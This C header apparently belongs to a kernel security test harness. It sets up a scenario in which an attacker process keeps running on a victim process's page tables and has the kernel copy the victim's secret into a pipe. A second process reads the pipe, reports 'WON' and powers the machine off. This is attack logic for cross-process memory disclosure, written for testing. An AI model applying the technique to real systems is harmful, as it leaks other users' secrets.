// SPDX-License-Identifier: GPL-2.0-only
/*
 * other_tables.h - a program that goes on with the page tables of another program: it sleeps in a
 * write to a full pipe, and behind the switch the kernel takes what it writes from the other one's
 * memory, where a secret stands at that address. (Its own registers it does not find there: they
 * stand in memory of its own.) A second program of the attacker's reads the pipe.
 */
#pragma once
#include "attack.h"

#define PIPE_SIZE 65536

static char memory[4096] __attribute__((aligned(4096)));
static char filler[PIPE_SIZE];
static int pipe_ends[2];

static bool control(void)
{
	return is_ordinary();
}

static _Noreturn void read_secret(void)
{
	(void)own_cpu(0);
	sleep_milliseconds(200);
	for (long left = PIPE_SIZE; left > 0;)
		left -= call3(__NR_read, pipe_ends[0], (long)filler, left);
	if (call3(__NR_read, pipe_ends[0], (long)filler, sizeof(memory)) > 0 &&
	    bytes_equal(filler, SECRET, sizeof(SECRET) - 1))
		say_result("WON");
	for (;;)
		call4(__NR_reboot, LINUX_REBOOT_MAGIC1, LINUX_REBOOT_MAGIC2,
		      LINUX_REBOOT_CMD_POWER_OFF, 0);
}

/* Before this program's tables are exchanged. */
static void start_reader(void)
{
	call1(__NR_pipe, (long)pipe_ends);
	call3(__NR_write, pipe_ends[1], (long)filler, PIPE_SIZE);
	if (fork_program() == 0)
		read_secret();
	(void)own_cpu(1);
}

static _Noreturn void run_on_other_tables(void)
{
	call3(__NR_write, pipe_ends[1], (long)memory, sizeof(memory));
	for (;;)
		__asm__ volatile("pause");
}

static void victim(void)
{
	char *end = memory;

	/* Not where the attacker sleeps: between two tasks of one space no tables are loaded. */
	(void)own_cpu(0);
	append_text(&end, SECRET);
	victim_waits();
}
